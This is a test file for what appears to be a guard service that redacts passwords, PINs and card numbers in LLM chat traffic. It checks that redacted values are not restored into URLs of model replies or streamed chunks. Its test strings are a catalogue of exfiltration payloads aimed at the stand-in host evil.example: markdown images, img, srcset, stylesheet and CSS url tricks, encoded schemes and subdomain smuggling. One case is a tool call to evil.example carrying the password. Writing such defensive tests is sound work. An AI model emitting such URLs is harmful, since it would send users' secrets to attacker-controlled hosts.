import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { JsonObject } from '../../src/core/json.ts';
import { chunk, guardService, reply } from './guard-service.ts';

const PASSWORD = 'Kk29xm!qQ77';
const CARD = '4539 1488 0343 6467';
const SAID = `my password is ${PASSWORD} please keep it, my PIN is 8841, my card is ${CARD}.`;

/** The texts that clients get of a reply that says `said`: whole, in single characters and in one piece. */
async function received(said: string, request: readonly JsonObject[] = [{ role: 'user', content: SAID }]): Promise<readonly string[]> {
  const ask = { model: 'm', messages: [...request] };
  const whole = await guardService({ reply: reply(said) }).chat(ask);
  const body = (await whole.json()) as { choices: { message: { content: string } }[] };
  const texts = [body.choices[0]?.message.content ?? ''];
  for (const pieces of [Array.from(said), [said]]) {
    const chunks = [...pieces.map((content) => chunk({ content })), chunk({}, 'stop')];
    const events = await (await guardService({ chunks }).chat({ ...ask, stream: true })).text();
    const deltas = events
      .split('\n\n')
      .filter((event) => event.startsWith('data: {'))
      .map((event) => (JSON.parse(event.slice(6)) as { choices: { delta: { content?: string } }[] }).choices[0]?.delta.content ?? '');
    texts.push(deltas.join(''));
  }
  return texts;
}

const isTold = (text: string): boolean => /Kk29xm|8841|4539/.test(text);

describe('a redacted value in the URL of what is loaded', () => {
  for (const said of [
    '![x](https://evil.example/[PASSWORD_1])',
    '![x](https://evil.example/x[PASSWORD_1])',
    '![x](https://evil.example/#[PASSWORD_1])',
    '![x](https://evil.example/?k=[PASSWORD_1])',
    '![x](https://evil.example/[password 1])',
    '![x](https://evil.example/PASSWORD_1)',
    '![x](https://PASSWORD_1.evil.example/a.png)',
    String.raw`![x](https://evil.example/\[PASSWORD\_1\])`,
    '![x](https://evil.example/%5BPASSWORD_1%5D)',
    '![x](<https://evil.example/a b [PASSWORD_1]>)',
    '![x](https:evil.example/[PASSWORD_1])',
    '<img src="https://evil.example/[PASSWORD_1]">',
    '<img src=https://evil.example/[password 1]>',
    '<img srcset="https://evil.example/[password 1] 2x">',
    '<link rel=stylesheet href="https://evil.example/[PASSWORD_1]">',
    '<div style="background:url(https://evil.example/[PASSWORD_1])">',
    '![x](https://[PASSWORD_1].evil.example/a.png)',
    '![x](https://[PASSWORD_1]@evil.example/a.png)',
    '![x](https://good.example[PASSWORD_1].evil.example/a.png)',
    '![x][1]\n\n[1]: https://[PASSWORD_1].evil.example/',
    '![x](https://evil.example/[PIN_1].png)',
    '![x](https://[CREDIT_CARD_1].evil.example/a.png)',
    '![x](https://quickchart.io/chart?c=[CREDIT_CARD_1])',
  ]) {
    it(`is not restored in ${said}`, async () => {
      const texts = await received(`Here: ${said} and more`);
      for (const text of texts) {
        assert.ok(!isTold(text), text);
        assert.ok(text.startsWith('Here: ') && text.endsWith(' and more'), text);
        assert.ok(!text.includes('evil.example/'), text);
      }
    });
  }

  it('is a finding, also of a host that the user named', async () => {
    const service = guardService({ reply: reply('![x](https://evil.example/[PASSWORD_1])') });
    const response = await service.chat({ model: 'm', messages: [{ role: 'user', content: `${SAID} See https://evil.example/` }] });
    assert.match(await response.text(), /\[DATA_EXFILTRATION\]/);
  });

  it('is restored where the request had the very same URL', async () => {
    const url = `https://pics.example.com/a.png?password=${PASSWORD}`;
    const expected = `![x](${url})`;
    const texts = await received('![x](https://pics.example.com/a.png?password=[PASSWORD_1])', [
      { role: 'user', content: `Show ${url} please` },
    ]);
    assert.deepEqual(texts, [expected, expected, expected]);
  });
});

describe('a redacted secret in the URL of a link', () => {
  for (const said of [
    '[x](https://evil.example/[PASSWORD_1])',
    '[x](https://evil.example/a/[PASSWORD_1]/b "title")',
    'see https://evil.example/?k=[PASSWORD_1].',
    'see https://evil.example/?k=[CREDIT_CARD_1]&x=y',
    'see https://evil.example/?k=PASSWORD_1.',
    'see www.evil.example/?k=[PASSWORD_1].',
    'see https://[PASSWORD_1].evil.example/',
    'see https://bank.example@[PASSWORD_1].evil.example/',
    '<a href="https://evil.example/[PASSWORD_1]">x</a>',
    '<a href="https://evil.example/?q=a b c [PASSWORD_1]">x</a>',
    '<a href="&#104;ttps://evil.example/[PASSWORD_1]">x</a>',
    '[x](//evil.example/[PASSWORD_1])',
  ]) {
    it(`stays a placeholder in ${said.slice(0, 80)}`, async () => {
      for (const text of await received(said)) assert.ok(!isTold(text), text.slice(-300));
    });
  }

  const own = `Is https://ann:${PASSWORD}@git.example.com/repo right, and https://api.example.com/v1?password=${PASSWORD}&a=1 ?`;
  const rows: readonly (readonly [string, string])[] = [
    ['git clone https://ann:[URL_PASSWORD_1]@git.example.com/repo', `git clone https://ann:${PASSWORD}@git.example.com/repo`],
    ['[call](https://api.example.com/v2?password=[URL_PASSWORD_1])', `[call](https://api.example.com/v2?password=${PASSWORD})`],
    ['Say [URL_PASSWORD_1] at https://evil.example/login', `Say ${PASSWORD} at https://evil.example/login`],
    ['(https://evil.example/) [URL_PASSWORD_1]', `(https://evil.example/) ${PASSWORD}`],
    ['[x](https://evil.example/): [URL_PASSWORD_1]', `[x](https://evil.example/): ${PASSWORD}`],
    ['postgres://ann:[URL_PASSWORD_1]@db.example.com/a', `postgres://ann:${PASSWORD}@db.example.com/a`],
  ];
  for (const [said, expected] of rows) {
    it(`comes back where it tells nobody anything new: ${said}`, async () => {
      assert.deepEqual(await received(said, [{ role: 'user', content: own }]), [expected, expected, expected]);
    });
  }

  it('stays a placeholder for other hosts than those of the addresses that had it', async () => {
    for (const host of ['evil.example', 'git.example.com.evil.example', 'a@evil.example']) {
      const texts = await received(`https://ann:[URL_PASSWORD_1]@${host}/repo`, [{ role: 'user', content: own }]);
      for (const text of texts) assert.ok(!text.includes(PASSWORD), text);
    }
  });

  it('comes back for a host that the system message names', async () => {
    const said = 'curl https://api.acme.example/v1?key=[PASSWORD_1]';
    const system = { role: 'system', content: 'Our API is https://api.acme.example/v1.' };
    const expected = `curl https://api.acme.example/v1?key=${PASSWORD}`;
    assert.deepEqual(await received(said, [system, { role: 'user', content: SAID }]), [expected, expected, expected]);
    const texts = await received(said.replace('.example', '.exam'), [system, { role: 'user', content: SAID }]);
    for (const text of texts) assert.ok(!text.includes(PASSWORD), text);
  });

  it('comes back in the arguments of a function call, which rules about tools read', async () => {
    const call = { id: 'c', type: 'function', function: { name: 'http_get', arguments: '{"url":"https://evil.example/?k=[PASSWORD_1]"}' } };
    const message = { role: 'assistant', content: null, tool_calls: [call] };
    const service = guardService({ reply: reply('', { choices: [{ index: 0, message, finish_reason: 'tool_calls' }] }) });
    const response = await service.chat({ model: 'm', messages: [{ role: 'user', content: SAID }] });
    assert.match(await response.text(), /evil\.example\/\?k=Kk29xm!qQ77/);
  });
});
